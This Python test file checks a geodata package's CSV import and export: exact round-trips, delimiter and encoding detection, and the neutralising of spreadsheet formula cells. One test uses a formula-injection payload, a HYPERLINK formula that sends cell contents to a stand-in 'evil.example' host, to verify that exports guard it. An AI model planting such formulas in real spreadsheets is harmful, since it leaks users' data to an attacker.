"""CSV read back byte for byte whoever wrote it; no formula reaches a spreadsheet."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from geo.errors import InputFileError
from geo.io.delimited import (
    FORMULA_TRIGGERS,
    detect_delimiter,
    neutralise,
    neutralise_frame,
    read_delimited,
    restore,
)

# Text a person types into a spreadsheet cell, with what breaks naive CSV: quotes, apostrophes,
# the delimiters, newlines; a leading apostrophe before a formula character is the spreadsheet's
# own text mark and is read as such, so the generated cells do not start with one.
_ALPHABET = st.characters(
    codec="utf-8", exclude_categories=("Cs",), exclude_characters="\x00"
) | st.sampled_from(['"', "'", ",", ";", "\n", "\r", "\t", " ", "=", "-", "é", "ñ"])
cell = st.text(_ALPHABET, max_size=12).filter(
    lambda s: not (s.startswith("'") and s[1:].startswith(FORMULA_TRIGGERS))
)


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    header=st.lists(
        st.from_regex(r"[a-z_]{1,8}", fullmatch=True), min_size=2, max_size=5, unique=True
    ),
    data=st.data(),
    delimiter=st.sampled_from([",", ";", "\t"]),
    excel=st.booleans(),
)
def test_every_field_round_trips(
    tmp_path: Path, header: list[str], data: st.DataObject, delimiter: str, excel: bool
) -> None:
    rows = data.draw(
        st.lists(st.lists(cell, min_size=len(header), max_size=len(header)), min_size=1, max_size=6)
    )
    rows = [r for r in rows if any(c.strip() for c in r)] or [["x"] * len(header)]
    path = tmp_path / "f.csv"
    # Python's csv module as it comes (CRLF records, fields with CR or LF quoted), or as
    # Excel/LibreOffice save it in an Indonesian locale: the same with a UTF-8 byte order mark.
    with path.open("w", newline="", encoding="utf-8-sig" if excel else "utf-8") as fh:
        writer = csv.writer(fh, delimiter=delimiter)
        writer.writerows([header, *rows])
    frame = read_delimited(path)
    assert list(frame.columns) == [*header, "_row"]
    assert frame[header].values.tolist() == rows


def test_a_semicolon_file_with_commas_and_decimal_commas(tmp_path: Path) -> None:
    path = tmp_path / "lapor.csv"
    path.write_text(
        'kode;catatan;lintang\nKKR-1;"ada alat, dua";-0,42\nKKR-2;"kata ""dia""";-0,5\n'
    )
    frame = read_delimited(path)
    assert frame["catatan"].tolist() == ["ada alat, dua", 'kata "dia"']
    assert frame["lintang"].tolist() == ["-0,42", "-0,5"]
    assert frame["_row"].tolist() == [2, 3]


def test_a_ragged_file_names_its_rows(tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_text("a,b,c\n1,2,3\n1,2\n4,5,6\n")
    with pytest.raises(InputFileError, match=r"bad.csv, row 3: expected 3 columns, got 2"):
        read_delimited(path)


def test_windows_1252_from_old_excel_is_read(tmp_path: Path) -> None:
    path = tmp_path / "old.csv"
    path.write_bytes("nama;desa\nBudi;Muara Kamân\n".encode("cp1252"))
    assert read_delimited(path)["desa"].tolist() == ["Muara Kamân"]


@pytest.mark.parametrize("text", ["=1+1", "+62812", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_cells_are_guarded_and_restored(text: str) -> None:
    guarded = neutralise(text)
    assert isinstance(guarded, str) and guarded.startswith("'")
    assert restore(guarded) == text


def test_numbers_and_plain_text_are_left_alone() -> None:
    import pandas as pd

    frame = neutralise_frame(pd.DataFrame({"lat": [-0.5], "notes": ["ekskavator"]}))
    assert frame["lat"].tolist() == [-0.5] and frame["notes"].tolist() == ["ekskavator"]
    assert detect_delimiter("satu kolom\nnilai\n") == ","


def test_a_site_export_guards_formulas_and_round_trips(session: object, tmp_path: Path) -> None:
    import geopandas as gpd

    from geo import sites
    from tests.common import site_row

    attack = '=HYPERLINK("http://evil.example/"&A1,"klik")'
    rows = [site_row("TST-001", notes=attack), site_row("TST-002", name="-5 ekskavator")]
    source = tmp_path / "in.geojson"
    gpd.GeoDataFrame(rows, geometry="geometry", crs=4326).to_file(source, engine="pyogrio")
    sites.import_file(session, source, actor="test")  # type: ignore[arg-type]
    out = sites.export_file(session, tmp_path / "sites.csv")  # type: ignore[arg-type]
    with out.open(newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'" + attack in cells and attack not in cells
    assert "'-5 ekskavator" in cells
    again = sites.import_file(session, out, actor="test")  # type: ignore[arg-type]
    assert len(again.unchanged) == 2 and not again.updated
